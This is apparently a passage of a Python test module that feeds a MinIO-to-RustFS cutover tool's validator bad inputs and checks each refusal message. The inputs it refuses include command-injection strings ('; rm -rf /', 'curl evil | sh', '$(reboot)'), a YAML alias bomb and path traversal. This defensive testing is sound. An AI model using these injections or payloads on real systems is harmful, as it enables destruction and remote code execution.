"""Every bad input the tool was tried with, and the one sentence it answers.

Each case builds its input in a scratch directory and runs it one of four ways (`via`):

- `pytest`: the real command line in a subprocess (`python -m pytest ...` from the checkout);
- `plan`: `python -m cutover.plan ...` in a subprocess;
- `load`: `cutover.inputs.load_run_inputs`, what every run of the suites calls before anything
  else; pytest prints its sentence after `ERROR:` and exits 4 (the `pytest` cases show it);
- `phase`: the secret resolver a phase calls when it needs that secret; the phase's checks fail
  with the sentence (exit 1) and nothing of that phase is changed.

`says` is the sentence (or the distinctive part of it), with `<dir>` standing for the case's
scratch directory and `<checkout>` for this checkout; `hidden` lists what must never be echoed
(a pasted secret).
"""

from __future__ import annotations

import contextlib
import copy
import importlib.metadata
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from cutover.errors import ConfigError
from cutover.inputs import load_run_inputs
from cutover.profile import (
    REPO_ROOT,
    TARGETS_DIR,
    OidcSpec,
    R2Spec,
    RotationSpec,
    resolve_client_secret,
    resolve_new_root_secret,
    resolve_r2_secret,
)

ROOT_SECRET = "badinput-Root-Secret-4f1c9a"
ENV = {"CUTOVER_ROOT_SECRET": ROOT_SECRET}
PASTED_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
PASTED_TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
MANIFEST = REPO_ROOT / "data-plane" / "datasets.yml"

Arg = str | Callable[[Path], str]


@dataclass(frozen=True)
class Outcome:
    exit: int
    text: str


@dataclass(frozen=True)
class Case:
    id: str
    group: str
    what: str  # the bad input, as the doc shows it
    says: str  # the sentence; `<dir>` is the scratch directory, `<checkout>` this checkout
    via: str  # pytest | plan | load | phase
    exit: int
    act: Callable[[Path], Outcome] = field(repr=False)
    hidden: tuple[str, ...] = ()


# --- inputs --------------------------------------------------------------------------------


def base_profile(mode: str) -> dict[str, Any]:
    """The shipped profile of that mode, its manifest made absolute (the copy lives elsewhere)."""
    name = "rehearsal.yml" if mode == "rehearsal" else "truenas.example.yml"
    data = yaml.safe_load((TARGETS_DIR / name).read_text(encoding="utf-8"))
    data["manifest"] = str(MANIFEST)
    return data


def put(dotted: str, value: Any) -> Callable[[dict], None]:
    """An edit setting `a.b.c` (list items by index) to `value`; `...` deletes the key."""

    def edit(data: dict) -> None:
        *parents, last = dotted.split(".")
        node: Any = data
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        if value is ...:
            del node[last]
        elif isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return edit


def profile(*edits: Callable[[dict], None], mode: str = "rehearsal") -> Callable[[Path], str]:
    """A profile file: the shipped one of `mode` with `edits` applied."""

    def write(directory: Path) -> str:
        data = copy.deepcopy(base_profile(mode))
        for edit in edits:
            edit(data)
        path = directory / "profile.yml"
        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
        return str(path)

    return write


def file(name: str, content: str | bytes) -> Callable[[Path], str]:
    def write(directory: Path) -> str:
        path = directory / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return str(path)

    return write


def directory(name: str) -> Callable[[Path], str]:
    def make(scratch: Path) -> str:
        (scratch / name).mkdir(exist_ok=True)
        return str(scratch / name)

    return make


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels + "\n"


def alias_bomb(top: str) -> str:
    """Nine anchors of nine aliases each: 9^9 (387 million) values once expanded."""
    lines = [f'{top}: &a0 ["x","x","x","x","x","x","x","x","x"]']
    lines += [f"l{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    return "\n".join(lines) + "\n"


def secret_file(content: str | bytes) -> Callable[[Path], str]:
    return file("secret.txt", content)


def manifest_with(text: str) -> Callable[[Path], str]:
    return file("datasets.yml", text)


def bucket(**overrides: Any) -> dict[str, Any]:
    return {"name": "raw", "tier": "local", "owner": "data", "purpose": "x", **overrides}


def manifest_yaml(*buckets: dict[str, Any], **top: Any) -> str:
    return yaml.safe_dump({"version": 1, "buckets": list(buckets), **top}, sort_keys=False)


# --- ways to run ---------------------------------------------------------------------------


def _arg(value: Arg, scratch: Path) -> str:
    return value(scratch) if callable(value) else value


def load(
    target: Arg, datasets: Arg | None = None, env: dict[str, str] | None = None
) -> Callable[[Path], Outcome]:
    """What a run of the suites does first (fixtures/startup.py), in this process."""

    def act(scratch: Path) -> Outcome:
        try:
            load_run_inputs(
                _arg(target, scratch),
                _arg(datasets, scratch) if datasets is not None else None,
                ENV if env is None else env,
            )
        except ConfigError as exc:
            return Outcome(4, str(exc))
        return Outcome(0, "(accepted)")

    return act


def phase(resolve: Callable[[Path], None]) -> Callable[[Path], Outcome]:
    """A phase's own secret: the resolver's ConfigError is the sentence its checks fail with."""

    def act(scratch: Path) -> Outcome:
        try:
            resolve(scratch)
        except ConfigError as exc:
            return Outcome(1, str(exc))
        return Outcome(0, "(accepted)")

    return act


def guard_plugin_args() -> list[str]:
    """`-p pytest_cutover_guard` where the pytest11 entry point is not installed (a venv made
    before pyproject.toml declared it); once installed, pytest loads it by itself."""
    installed = any(
        ep.value == "pytest_cutover_guard"
        for ep in importlib.metadata.entry_points(group="pytest11")
    )
    return [] if installed else ["-p", "pytest_cutover_guard"]


def command(argv: list[str], env: dict[str, str] | None = None) -> Outcome:
    proc = subprocess.run(
        argv,
        cwd=REPO_ROOT,
        env={**os.environ, **ENV, **(env or {})},
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    return Outcome(proc.returncode, proc.stdout + proc.stderr)


def pytest_cli(
    *args: Arg, env: dict[str, str] | None = None, report_dir: bool = True
) -> Callable[[Path], Outcome]:
    """`python -m pytest <args>` from the checkout; its change records go to the scratch
    directory, which must stay empty (nothing was run)."""

    def act(scratch: Path) -> Outcome:
        argv = [sys.executable, "-m", "pytest", "-q", "-p", "no:warnings"]
        argv += [_arg(a, scratch) for a in args]
        if report_dir:
            argv += ["--report-dir", str(scratch / "reports")]
        outcome = command(argv, env)
        records = list((scratch / "reports").iterdir()) if (scratch / "reports").is_dir() else []
        if records:
            return Outcome(outcome.exit, outcome.text + f"\n(!) change records written: {records}")
        return outcome

    return act


def plan_cli(*args: Arg) -> Callable[[Path], Outcome]:
    def act(scratch: Path) -> Outcome:
        return command([sys.executable, "-m", "cutover.plan", *(_arg(a, scratch) for a in args)])

    return act


@contextlib.contextmanager
def _traversable_by_others(path: Path) -> Iterator[None]:
    """o+x on `path` and its ancestors while inside, their modes back after: a checkout cloned
    into a 0700 temporary directory is otherwise out of nobody's reach."""
    modes = {p: p.stat().st_mode & 0o7777 for p in (path, *path.parents)}
    closed = {p: mode for p, mode in modes.items() if not mode & 0o001}
    try:
        for p, mode in closed.items():
            p.chmod(mode | 0o001)
        yield
    finally:
        for p, mode in closed.items():
            p.chmod(mode)


def as_nobody(act: Callable[[Path], Outcome]) -> Callable[[Path], Outcome]:
    """Run `act` in a child process as `nobody` when this one is root (root reads any file)."""

    def run(scratch: Path) -> Outcome:
        if os.geteuid() != 0:
            return act(scratch)
        reachable = Path(tempfile.mkdtemp(prefix="badinput-"))
        reachable.chmod(0o777)  # nobody writes the case's files here
        with _traversable_by_others(REPO_ROOT):  # nobody reads the profile, datasets.yml
            read, write = os.pipe()
            pid = os.fork()
            if pid == 0:  # the child: drop to nobody, run, report through the pipe
                try:
                    os.setgid(65534)
                    os.setuid(65534)
                    outcome = act(reachable)
                    os.write(write, f"{outcome.exit}\n{outcome.text}".encode())
                finally:
                    os._exit(0)
            os.close(write)
            with os.fdopen(read, "rb") as stream:
                data = stream.read().decode()
            os.waitpid(pid, 0)
        subprocess.run(["rm", "-rf", str(reachable)], check=False)
        code, _, text = data.partition("\n")
        return Outcome(int(code or 99), text.replace(str(reachable), str(scratch)))

    return run


def unreadable_secret(scratch: Path) -> str:
    path = scratch / "secret.txt"
    path.write_text("s3cret\n", encoding="utf-8")
    path.chmod(0o000)
    return str(path)


def _rotation(file_arg: Arg) -> Callable[[Path], None]:
    def resolve(scratch: Path) -> None:
        resolve_new_root_secret(RotationSpec(new_secret_file=_arg(file_arg, scratch)), {})

    return resolve


def _oidc(file_arg: Arg) -> Callable[[Path], None]:
    def resolve(scratch: Path) -> None:
        spec = OidcSpec.model_validate(
            {
                **base_profile("production")["oidc"],
                "client_secret_env": None,
                "client_secret_file": _arg(file_arg, scratch),
            }
        )
        resolve_client_secret(spec, {})

    return resolve


def _r2(file_arg: Arg) -> Callable[[Path], None]:
    def resolve(scratch: Path) -> None:
        spec = R2Spec.model_validate(
            {
                **base_profile("production")["r2"],
                "secret_env": None,
                "secret_file": _arg(file_arg, scratch),
            }
        )
        resolve_r2_secret(spec, {})

    return resolve


def root_secret_file(content: Arg) -> Callable[[Path], Outcome]:
    """The rehearsal profile reading its root secret from `content` (a path), no variable set."""

    def act(scratch: Path) -> Outcome:
        path = _arg(content, scratch)
        target = profile(
            put("credentials.secret_env", ...),
            put("credentials.generate_if_missing", False),
            put("credentials.secret_file", path),
        )
        return load(target, env={})(scratch)

    return act


def _case(
    id: str,
    group: str,
    what: str,
    says: str,
    act: Callable[[Path], Outcome],
    *,
    via: str = "load",
    exit: int | None = None,
    hidden: tuple[str, ...] = (),
) -> Case:
    default_exit = {"load": 4, "pytest": 4, "plan": 2, "phase": 1}[via]
    return Case(id, group, what, says, via, default_exit if exit is None else exit, act, hidden)


# --- the cases -----------------------------------------------------------------------------

FILE = "The profile file"
FIELDS = "Profile fields"
PRODUCTION = "Production profile fields (the NAS)"
SECRETS = "Secrets from files"
MANIFEST_GROUP = "The dataset manifest (datasets.yml)"
CLI = "The command line"

_SUITE = "suites/test_00_preflight.py"
DRESS = "Dress rehearsal options"


def minio_dir(name: str, *, nested: str = "") -> Callable[[Path], str]:
    """A directory shaped like a MinIO data directory (`.minio.sys` at its top, or one level
    down in `nested`); never started on: every case refuses before a container runs."""

    def write(directory: Path) -> str:
        path = directory / name
        (path / nested / ".minio.sys").mkdir(parents=True)
        (path / nested / "raw").mkdir()
        return str(path)

    return write


_PROD = "mode: production"
LIMIT_NOTE = "a target profile is a few kilobytes of plain YAML; check that this is the right file"

CASES: list[Case] = [
    # --- the profile file ------------------------------------------------------------------
    _case(
        "profile-missing",
        FILE,
        "`--target nosuch` (no such profile)",
        "target profile 'nosuch' not found (looked for",
        load("nosuch"),
    ),
    _case(
        "profile-is-directory",
        FILE,
        "`--target` names a directory",
        "target profile <dir>/profiles is a directory: name the YAML file inside it",
        load(directory("profiles")),
    ),
    _case(
        "profile-is-device",
        FILE,
        "`--target /dev/null`",
        "target profile /dev/null is not a regular file: name a YAML file",
        load("/dev/null"),
    ),
    _case(
        "profile-empty",
        FILE,
        "an empty profile file",
        "<dir>/p.yml: the file is empty; see the example in the repository",
        load(file("p.yml", "")),
    ),
    _case(
        "profile-not-mapping",
        FILE,
        "a profile that is a YAML list",
        "<dir>/p.yml: expected a YAML mapping at the top, found list",
        load(file("p.yml", "- name: rehearsal\n")),
    ),
    _case(
        "profile-malformed",
        FILE,
        "malformed YAML (an unclosed `[`)",
        "<dir>/p.yml: not valid YAML at line 3, column 1",
        load(file("p.yml", "name: x\nmode: [rehearsal\n")),
    ),
    _case(
        "profile-binary",
        FILE,
        "a binary file as the profile",
        "<dir>/p.yml: not a UTF-8 text file",
        load(file("p.yml", b"\xff\xfe\x00\x01binary")),
    ),
    _case(
        "profile-deep",
        FILE,
        "a profile nested 20,000 levels deep (was: RecursionError)",
        "<dir>/p.yml: refused, nesting deeper than 64 levels at line 1, column 65: " + LIMIT_NOTE,
        pytest_cli(_SUITE, "--target", file("p.yml", deep(20_000))),
        via="pytest",
    ),
    _case(
        "profile-alias-bomb",
        FILE,
        "a profile of nested aliases expanding to 387 million values",
        "<dir>/p.yml: refused, more than 200,000 values once its aliases (*name) are expanded, "
        "at line 5: " + LIMIT_NOTE,
        load(file("p.yml", alias_bomb("name"))),
    ),
    _case(
        "profile-huge",
        FILE,
        "a 2 MiB profile",
        "<dir>/p.yml: refused, larger than 1024 KiB: " + LIMIT_NOTE,
        load(file("p.yml", "# padding\n" * 200_000 + "name: x\n")),
    ),
    _case(
        "profile-unknown-key",
        FILE,
        "a misspelt key (`tiket:`)",
        "field 'tiket': unknown key (check the spelling; see the example file)",
        load(profile(put("tiket", "AURA-1"))),
    ),
    _case(
        "profile-missing-key",
        FILE,
        "no `ticket:`",
        "field 'ticket': required key is missing",
        load(profile(put("ticket", ...))),
    ),
    _case(
        "inline-root-secret",
        FILE,
        "`credentials.secret_key:` holding the secret inline",
        "credentials.secret_key holds a secret inline; profiles are committed files, so name an "
        "environment variable (secret_env) or a file (secret_file) instead",
        load(profile(put("credentials.secret_key", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "inline-new-secret",
        FILE,
        "`rotation.new_secret:` inline",
        "rotation.new_secret holds a secret inline; profiles are committed files, so name an "
        "environment variable (new_secret_env) or a file (new_secret_file) instead",
        load(profile(put("rotation.new_secret", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "inline-client-secret",
        FILE,
        "`oidc.client_secret:` inline",
        "oidc.client_secret holds a secret inline",
        load(profile(put("oidc.client_secret", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "inline-r2-secret",
        FILE,
        "`r2.secret_access_key:` inline",
        "r2.secret_access_key holds a secret inline",
        load(profile(put("r2.secret_access_key", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    # --- profile fields --------------------------------------------------------------------
    _case(
        "name-slash",
        FIELDS,
        "`name: team/prod` (a `/` in the name)",
        "field 'name': name becomes part of the report and state directory names: use letters, "
        "digits, '.', '_' and '-' (no '/', at most 64), got 'team/prod'",
        load(profile(put("name", "team/prod"))),
    ),
    _case(
        "name-dotdot",
        FIELDS,
        "`name: ..`",
        "field 'name': name becomes part of the report and state directory names",
        load(profile(put("name", ".."))),
    ),
    _case(
        "name-empty",
        FIELDS,
        "`name: ''`",
        "field 'name': name becomes part of the report and state directory names",
        load(profile(put("name", ""))),
    ),
    _case(
        "mode-unknown",
        FIELDS,
        "`mode: staging`",
        "field 'mode': Input should be 'rehearsal' or 'production'",
        load(profile(put("mode", "staging"))),
    ),
    _case(
        "ticket-empty",
        FIELDS,
        "`ticket: ''`",
        "field 'ticket': String should have at least 1 character",
        load(profile(put("ticket", ""))),
    ),
    _case(
        "dataset-shell",
        FIELDS,
        "`dataset.zfs: marathon/minio-dataset; rm -rf /` (was: a traceback after SSH connected)",
        "field 'dataset.zfs': 'marathon/minio-dataset; rm -rf /' is not a pool/dataset name like "
        "marathon/minio-dataset (letters, digits, '_', '.', ':' and '-', parts joined by '/')",
        load(profile(put("dataset.zfs", "marathon/minio-dataset; rm -rf /"))),
    ),
    _case(
        "dataset-no-pool",
        FIELDS,
        "`dataset.zfs: marathon` (a pool, no dataset)",
        "field 'dataset.zfs': 'marathon' is not a pool/dataset name like marathon/minio-dataset",
        load(profile(put("dataset.zfs", "marathon"))),
    ),
    _case(
        "snapshot-space",
        FIELDS,
        "`dataset.snapshot: pre rustfs`",
        "field 'dataset.snapshot': 'pre rustfs' is not a ZFS snapshot name like pre-rustfs "
        "(letters, digits, '_', '.', ':' and '-'; no '@' or '/')",
        load(profile(put("dataset.snapshot", "pre rustfs"))),
    ),
    _case(
        "snapshot-at",
        FIELDS,
        "`dataset.snapshot: pre@rustfs`",
        "field 'dataset.snapshot': 'pre@rustfs' is not a ZFS snapshot name like pre-rustfs",
        load(profile(put("dataset.snapshot", "pre@rustfs"))),
    ),
    _case(
        "host-path-relative",
        FIELDS,
        "`dataset.host_path: mnt/marathon` (relative)",
        "field 'dataset.host_path': host_path must be absolute, got 'mnt/marathon'",
        load(profile(put("dataset.host_path", "mnt/marathon"))),
    ),
    _case(
        "host-path-dotdot",
        FIELDS,
        "`dataset.host_path: /mnt/marathon/../../etc`",
        "field 'dataset.host_path': host_path must not contain '..' (name the directory itself), "
        "got '/mnt/marathon/../../etc'",
        load(profile(put("dataset.host_path", "/mnt/marathon/../../etc"))),
    ),
    _case(
        "host-path-newline",
        FIELDS,
        "`dataset.host_path` with a newline in it",
        "field 'dataset.host_path': host_path must not contain control characters (a newline?)",
        load(profile(put("dataset.host_path", "/mnt/marathon\n/etc"))),
    ),
    _case(
        "owner-name",
        FIELDS,
        "`dataset.owner: minio` (a name, not UID:GID)",
        "field 'dataset.owner': owner must be numeric UID:GID like '473:473', got 'minio'",
        load(profile(put("dataset.owner", "minio"))),
    ),
    _case(
        "mount-path-relative",
        FIELDS,
        "`source.mount_path: export`",
        "field 'source.mount_path': mount_path must be absolute, got 'export'",
        load(profile(put("source.mount_path", "export"))),
    ),
    _case(
        "app-name",
        FIELDS,
        "`target.app: rustfs;reboot`",
        "field 'target.app': app must be a TrueNAS app name (lowercase letters, digits and '-', "
        "like minio), got 'rustfs;reboot'",
        load(profile(put("target.app", "rustfs;reboot"))),
    ),
    _case(
        "port-zero",
        FIELDS,
        "`network.api_port: 0`",
        "field 'network.api_port': must be a TCP port from 1 to 65535 (or auto in a rehearsal), "
        "got 0",
        load(profile(put("network.api_port", 0))),
    ),
    _case(
        "port-too-high",
        FIELDS,
        "`network.console_port: 70000`",
        "field 'network.console_port': must be a TCP port from 1 to 65535 (or auto in a "
        "rehearsal), got 70000",
        load(profile(put("network.console_port", 70000))),
    ),
    _case(
        "port-negative",
        FIELDS,
        "`network.api_port: -1`",
        "field 'network.api_port': must be a TCP port from 1 to 65535",
        load(profile(put("network.api_port", -1))),
    ),
    _case(
        "port-text",
        FIELDS,
        "`network.api_port: '9000a'`",
        "field 'network.api_port': must be a TCP port from 1 to 65535 (or auto in a rehearsal), "
        "got '9000a'",
        load(profile(put("network.api_port", "9000a"))),
    ),
    _case(
        "ports-equal",
        FIELDS,
        "`network.api_port` == `network.console_port` (9000 both)",
        "field 'network': api_port and console_port are both 9000: the S3 API and the console "
        "each need their own port",
        load(profile(put("network.api_port", 9000), put("network.console_port", 9000))),
    ),
    _case(
        "bind-any-in-rehearsal",
        FIELDS,
        "a rehearsal with `network.bind: 0.0.0.0`",
        "network.bind is 0.0.0.0: a rehearsal listens on loopback only (127.0.0.1), never on "
        "this machine's network; production profiles set mode: production",
        load(profile(put("network.bind", "0.0.0.0"))),
    ),
    _case(
        "bind-lan-in-rehearsal",
        FIELDS,
        "a rehearsal with `network.bind: 192.168.1.10`",
        "network.bind is 192.168.1.10: a rehearsal listens on loopback only (127.0.0.1)",
        load(profile(put("network.bind", "192.168.1.10"))),
    ),
    _case(
        "bind-not-ip",
        FIELDS,
        "`network.bind: localhost`",
        "field 'network.bind': bind must be an IP address (127.0.0.1 in a rehearsal, 0.0.0.0 on "
        "the NAS), got 'localhost'",
        load(profile(put("network.bind", "localhost"))),
    ),
    _case(
        "secret-env-pasted",
        FIELDS,
        "the root secret pasted into `credentials.secret_env` (was: echoed back)",
        "field 'credentials.secret_env': secret_env must be the NAME of an environment variable "
        "(capitals, digits and '_', like CUTOVER_ROOT_SECRET), not the secret itself; the value "
        "given is not shown here. Put the secret in that variable (or in a file) and name it",
        load(profile(put("credentials.secret_env", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "new-secret-env-pasted",
        FIELDS,
        "the new secret pasted into `rotation.new_secret_env`",
        "field 'rotation.new_secret_env': new_secret_env must be the NAME of an environment "
        "variable",
        load(profile(put("rotation.new_secret_env", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "client-secret-env-pasted",
        FIELDS,
        "the client secret pasted into `oidc.client_secret_env`",
        "field 'oidc.client_secret_env': client_secret_env must be the NAME of an environment "
        "variable",
        load(profile(put("oidc.client_secret_env", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "r2-secret-env-pasted",
        FIELDS,
        "the R2 secret pasted into `r2.secret_env`",
        "field 'r2.secret_env': secret_env must be the NAME of an environment variable",
        load(profile(put("r2.secret_env", PASTED_SECRET))),
        hidden=(PASTED_SECRET,),
    ),
    _case(
        "id-token-env-pasted",
        FIELDS,
        "an ID token pasted into `oidc.test_users[0].id_token_env`",
        "field 'oidc.test_users.0.id_token_env': id_token_env must be the NAME of an environment "
        "variable",
        load(profile(put("oidc.test_users.0.id_token_env", PASTED_TOKEN))),
        hidden=(PASTED_TOKEN,),
    ),
    _case(
        "root-secret-short",
        SECRETS,
        "`CUTOVER_ROOT_SECRET=short1` (6 characters)",
        "the root secret is 6 characters long: secrets shorter than 8 are refused, because the "
        "change record cannot be scrubbed of them without mangling it (and MinIO refuses a root "
        "secret that short); use a longer secret",
        pytest_cli(
            _SUITE,
            "--target",
            str(TARGETS_DIR / "rehearsal.yml"),
            env={"CUTOVER_ROOT_SECRET": "short1"},
        ),
        via="pytest",
    ),
    _case(
        "access-key-short",
        FIELDS,
        "`credentials.access_key: ab`",
        "field 'credentials.access_key': String should have at least 3 characters",
        load(profile(put("credentials.access_key", "ab"))),
    ),
    _case(
        "rotation-no-source",
        FIELDS,
        "`rotation:` with no new secret source",
        "field 'rotation': rotation needs new_secret_env or new_secret_file: where the new root "
        "secret comes from",
        load(
            profile(put("rotation.new_secret_env", ...), put("rotation.generate_if_missing", False))
        ),
    ),
    _case(
        "r2-real-endpoint-in-rehearsal",
        FIELDS,
        "a rehearsal whose `r2.endpoint` is a real URL",
        "r2.endpoint must be `standin` in a rehearsal (got 'https://acct.r2.cloudflarestorage.com'):"
        " a rehearsal never sends traffic beyond this machine; a real engine plays R2",
        load(profile(put("r2.endpoint", "https://acct.r2.cloudflarestorage.com"))),
    ),
    _case(
        "r2-endpoint-scheme",
        FIELDS,
        "`r2.endpoint: ftp://r2.example`",
        "field 'r2.endpoint': endpoint must be an http(s) URL like "
        "https://<account>.r2.cloudflarestorage.com (or `standin` in a rehearsal), got "
        "'ftp://r2.example'",
        load(profile(put("r2.endpoint", "ftp://r2.example"))),
    ),
    _case(
        "r2-schedule",
        FIELDS,
        "`r2.schedule: every hour`",
        "field 'r2.schedule': schedule 'every hour' needs 5 fields (minute hour day-of-month "
        "month day-of-week), has 2",
        load(profile(put("r2.schedule", "every hour"))),
    ),
    _case(
        "r2-remote-lowercase",
        FIELDS,
        "`r2.remote: r2`",
        "field 'r2.remote': rclone remote names here become RCLONE_CONFIG_<NAME>_* variables: use "
        "capitals, digits and '_' (like R2 or LOCAL), got 'r2'",
        load(profile(put("r2.remote", "r2"))),
    ),
    _case(
        "r2-remotes-equal",
        FIELDS,
        "`r2.remote` == `r2.local_remote`",
        "field 'r2': remote and local_remote are both 'LOCAL'",
        load(profile(put("r2.remote", "LOCAL"))),
    ),
    _case(
        "r2-container",
        FIELDS,
        "`r2.container: r2 sync;reboot`",
        "field 'r2.container': container must be a Docker container name (letters, digits, '_', "
        "'.', '-'), got 'r2 sync;reboot'",
        load(profile(put("r2.container", "r2 sync;reboot"))),
    ),
    _case(
        "oidc-no-openid",
        FIELDS,
        "`oidc.scopes: [profile]`",
        "field 'oidc.scopes': scopes must include openid (RustFS refuses a provider without it)",
        load(profile(put("oidc.scopes", ["profile"]))),
    ),
    _case(
        "oidc-no-policies",
        FIELDS,
        "`oidc.policies: {}`",
        "field 'oidc.policies': policies must map at least one group to an access level",
        load(profile(put("oidc.policies", {}))),
    ),
    _case(
        "oidc-access-level",
        FIELDS,
        "`oidc.policies: {data-admins: superuser}`",
        "field 'oidc.policies.data-admins': Input should be 'admin', 'readwrite' or 'readonly'",
        load(profile(put("oidc.policies", {"data-admins": "superuser"}))),
    ),
    _case(
        "public-two-ways",
        FIELDS,
        "`public:` with both `api_url` and `standin_proxy`",
        "field 'public': public needs exactly one of api_url (the public hostname) or "
        "standin_proxy: true",
        load(profile(put("public.api_url", "https://s3.example.com"))),
    ),
    _case(
        "public-url-scheme",
        FIELDS,
        "`public.api_url: ftp://s3.example.com`",
        "field 'public.api_url': api_url must be an http(s) URL like https://s3.example.com, got "
        "'ftp://s3.example.com'",
        load(
            profile(
                put("public.standin_proxy", False), put("public.api_url", "ftp://s3.example.com")
            )
        ),
    ),
    _case(
        "ondisk-relative",
        FIELDS,
        "`ondisk.local_path: mnt/marathon`",
        "field 'ondisk.local_path': local_path must be absolute, got 'mnt/marathon'",
        load(profile(put("ondisk.local_path", "mnt/marathon"))),
    ),
    _case(
        "ondisk-dotdot",
        FIELDS,
        "`ondisk.drives: [/mnt/../etc]`",
        "field 'ondisk.drives': drives must not contain '..' (name the directory itself)",
        load(profile(put("ondisk.drives", ["/mnt/../etc"]))),
    ),
    _case(
        "ondisk-workers",
        FIELDS,
        "`ondisk.workers: 0`",
        "field 'ondisk.workers': Input should be greater than or equal to 1",
        load(profile(put("ondisk.workers", 0))),
    ),
    _case(
        "ondisk-metadata-sample",
        FIELDS,
        "`ondisk.metadata_per_stratum: -1`",
        "field 'ondisk.metadata_per_stratum': Input should be greater than or equal to 0",
        load(profile(put("ondisk.metadata_per_stratum", -1))),
    ),
    _case(
        "content-sample",
        FIELDS,
        "`verify.content_sample: 0`",
        "field 'verify.content_sample': Input should be greater than or equal to 1",
        load(profile(put("verify.content_sample", 0))),
    ),
    # --- production ------------------------------------------------------------------------
    _case(
        "prod-no-host",
        PRODUCTION,
        "a production profile without `host:`",
        "a production profile needs host.ssh (user@nas) to reach the NAS",
        load(profile(put("host", ...), mode="production")),
    ),
    _case(
        "prod-ssh-no-user",
        PRODUCTION,
        "`host.ssh: truenas.lan` (no user)",
        "field 'host.ssh': ssh must be user@host, got 'truenas.lan'",
        load(profile(put("host.ssh", "truenas.lan"), mode="production")),
    ),
    _case(
        "prod-ssh-port",
        PRODUCTION,
        "`host.port: 0`",
        "field 'host.port': Input should be greater than or equal to 1",
        load(profile(put("host.port", 0), mode="production")),
    ),
    _case(
        "prod-ssh-port-high",
        PRODUCTION,
        "`host.port: 70000`",
        "field 'host.port': Input should be less than or equal to 65535",
        load(profile(put("host.port", 70000), mode="production")),
    ),
    _case(
        "prod-tool-relative",
        PRODUCTION,
        "`host.tools.zfs: zfs` (relative)",
        "field 'host.tools.zfs': tool paths must be absolute (sudo resets PATH), got 'zfs'",
        load(profile(put("host.tools", {"zfs": "zfs"}), mode="production")),
    ),
    _case(
        "prod-tool-injection",
        PRODUCTION,
        "`host.tools.zfs: /usr/sbin/zfs; curl evil | sh` (was: pasted into a root shell, even "
        "read-only)",
        "field 'host.tools.zfs': tool paths run as root through sudo: give a plain absolute path "
        "of letters, digits and . _ + - / (like /usr/sbin/zfs), got '/usr/sbin/zfs; curl evil | "
        "sh'",
        pytest_cli(
            _SUITE,
            "--target",
            profile(put("host.tools", {"zfs": "/usr/sbin/zfs; curl evil | sh"}), mode="production"),
        ),
        via="pytest",
    ),
    _case(
        "prod-tool-substitution",
        PRODUCTION,
        "`host.tools.midclt: /usr/bin/midclt $(reboot)`",
        "field 'host.tools.midclt': tool paths run as root through sudo",
        load(
            profile(put("host.tools", {"midclt": "/usr/bin/midclt $(reboot)"}), mode="production")
        ),
    ),
    _case(
        "prod-tool-dotdot",
        PRODUCTION,
        "`host.tools.zfs: /usr/sbin/../../tmp/zfs`",
        "field 'host.tools.zfs': tool paths run as root through sudo",
        load(profile(put("host.tools", {"zfs": "/usr/sbin/../../tmp/zfs"}), mode="production")),
    ),
    _case(
        "prod-secrets-dir-relative",
        PRODUCTION,
        "`host.secrets_dir: secrets` (relative)",
        "field 'host.secrets_dir': secrets_dir must be an absolute path of letters, digits, '.', "
        "'_', '-' and '/' (no '..'), other than /, got 'secrets'",
        load(profile(put("host.secrets_dir", "secrets"), mode="production")),
    ),
    _case(
        "prod-secrets-dir-on-dataset",
        PRODUCTION,
        "`host.secrets_dir` inside `dataset.host_path` (the secrets would be served as a bucket)",
        "host.secrets_dir /mnt/marathon/minio-dataset/.secrets is on the migrated dataset "
        "(/mnt/marathon/minio-dataset): the secrets would be served as a bucket and kept in its "
        "snapshots; put them elsewhere (the default is /root/rustfs-cutover)",
        load(
            profile(
                put("host.secrets_dir", "/mnt/marathon/minio-dataset/.secrets"), mode="production"
            )
        ),
    ),
    _case(
        "prod-root-secret-quote",
        PRODUCTION,
        "a production root secret holding a single quote (the app's env_file cannot carry it)",
        "RUSTFS_SECRET_KEY (the root secret) holds a single quote, a line break or a trailing "
        "backslash, which a compose env_file cannot carry as is",
        load(profile(mode="production"), env={"CUTOVER_ROOT_SECRET": "it's-a-long-secret"}),
        hidden=("it's-a-long-secret",),
    ),
    _case(
        "prod-snapshot",
        PRODUCTION,
        "`dataset.snapshot: pre-rustfs$(id)` in production (was: a traceback after SSH connected)",
        "field 'dataset.snapshot': 'pre-rustfs$(id)' is not a ZFS snapshot name like pre-rustfs",
        pytest_cli(
            _SUITE,
            "--target",
            profile(put("dataset.snapshot", "pre-rustfs$(id)"), mode="production"),
        ),
        via="pytest",
    ),
    _case(
        "prod-port-auto",
        PRODUCTION,
        "`network.api_port: auto` in production",
        "network.api_port and network.console_port must be numbers in production: RustFS takes "
        "over MinIO's API port",
        load(profile(put("network.api_port", "auto"), mode="production")),
    ),
    _case(
        "prod-ports-equal",
        PRODUCTION,
        "API and console both on 9000 in production",
        "field 'network': api_port and console_port are both 9000",
        pytest_cli(
            _SUITE,
            "--target",
            profile(put("network.console_port", 9000), mode="production"),
        ),
        via="pytest",
    ),
    _case(
        "prod-generate-secret",
        PRODUCTION,
        "`credentials.generate_if_missing: true` in production",
        "credentials.generate_if_missing is for rehearsals: production must reuse MinIO's secret",
        load(profile(put("credentials.generate_if_missing", True), mode="production")),
    ),
    _case(
        "prod-generate-new-secret",
